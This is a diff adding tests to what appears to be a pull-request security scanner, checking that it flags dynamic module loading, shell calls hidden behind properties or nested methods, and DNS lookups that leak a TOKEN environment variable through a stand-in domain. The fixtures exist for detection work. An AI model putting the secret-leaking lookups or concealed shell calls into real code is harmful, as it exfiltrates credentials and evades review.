@@ -115,4 +115,55 @@ vars(os)[sys.argv[2]]("${CMD}")
     expect(r.code).toBe(1);
     expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/pick.js 3 1", "scan/shell-command agent/pick.py 2 1", "scan/shell-command agent/pick.py 3 1"]);
   });
+
+  it("scan/dynamic-code: a file run by the other loaders (sourceless, a folder's finder, a zip archive, imp, source suffixes added) or a spec found by a held find_spec or in a folder named at the call fails the built Action, at the call; a finder of the file's own does not", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/loaders.py"), `import imp, zipimport, importlib.machinery as M\nM.SourcelessFileLoader("p", "p.pyc").load_module()\nM.FileFinder(".", (M.SourceFileLoader, [".dat"])).find_spec("p").loader.load_module()\nzipimport.zipimporter("p.zip").load_module("p")\nimp.load_compiled("p", "p.pyc")\nM.SOURCE_SUFFIXES.append(".dat")\n`);
+      writeFileSync(join(dir, "agent/held.py"), `import importlib.util, sys\nf = importlib.util.find_spec\nspec = f(sys.argv[1])\nm = importlib.util.module_from_spec(spec)\n`);
+      writeFileSync(join(dir, "agent/found.py"), `import importlib.util, importlib.machinery as M\ns = M.PathFinder.find_spec("p", ["/tmp/x"])\nimportlib.util.module_from_spec(s)\n`);
+      writeFileSync(join(dir, "agent/own.py"), `import importlib.util, sys\ndef find_spec(name):\n    return None\nimportlib.util.module_from_spec(find_spec(sys.argv[1]))\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual([
+      "scan/dynamic-code agent/found.py 3 1",
+      "scan/dynamic-code agent/held.py 4 5",
+      "scan/dynamic-code agent/loaders.py 2 1",
+      "scan/dynamic-code agent/loaders.py 3 1",
+      "scan/dynamic-code agent/loaders.py 4 1",
+      "scan/dynamic-code agent/loaders.py 5 1",
+      "scan/dynamic-code agent/loaders.py 6 1",
+    ]);
+  });
+
+  it("scan/shell-command: a property returning os.system under an `if` or `try` and a static or class method of a nested class returning it fail the built Action, at the call", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/guarded.py"), `import os, sys, functools\nclass A:\n    @property\n    def run(self):\n        if sys.argv:\n            return os.system\n    @functools.cached_property\n    def sh(self):\n        try:\n            return os.popen\n        except Exception:\n            return None\nA().run("${CMD}")\nA().sh("${CMD}")\n`);
+      writeFileSync(join(dir, "agent/nested.py"), `import os\nclass Outer:\n    class Inner:\n        @staticmethod\n        def make():\n            return os.system\n        @classmethod\n        def build(cls):\n            return os.system\nOuter.Inner.make()("${CMD}")\nOuter.Inner.build()("${CMD}")\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual([
+      "scan/shell-command agent/guarded.py 13 1",
+      "scan/shell-command agent/guarded.py 14 1",
+      "scan/shell-command agent/nested.py 10 1",
+      "scan/shell-command agent/nested.py 11 1",
+    ]);
+  });
+
+  it("scan/network-call: a DNS lookup carrying data out (Node's dns, dns/promises and Resolver; an event loop's getaddrinfo, dnspython) fails the built Action, at the call", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/lookup.js"), `const dns = require("dns");\nconst secret = process.env.TOKEN;\ndns.lookup(\`\${secret}.x.example\`, () => {});\nrequire("dns/promises").resolveTxt(\`\${secret}.x.example\`);\nnew dns.Resolver().resolve4(\`\${secret}.x.example\`, () => {});\n`);
+      writeFileSync(join(dir, "agent/lookup.py"), `import asyncio, os\nimport dns.resolver\nsecret = os.environ["TOKEN"]\nasync def leak():\n    await asyncio.get_running_loop().getaddrinfo(f"{secret}.x.example", 80)\ndns.resolver.resolve(f"{secret}.x.example", "TXT")\n`);
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands).sort()).toEqual([
+      "scan/network-call agent/lookup.js 3 1",
+      "scan/network-call agent/lookup.js 4 1",
+      "scan/network-call agent/lookup.js 5 5",
+      "scan/network-call agent/lookup.py 5 11",
+      "scan/network-call agent/lookup.py 6 1",
+    ]);
+  });
 });
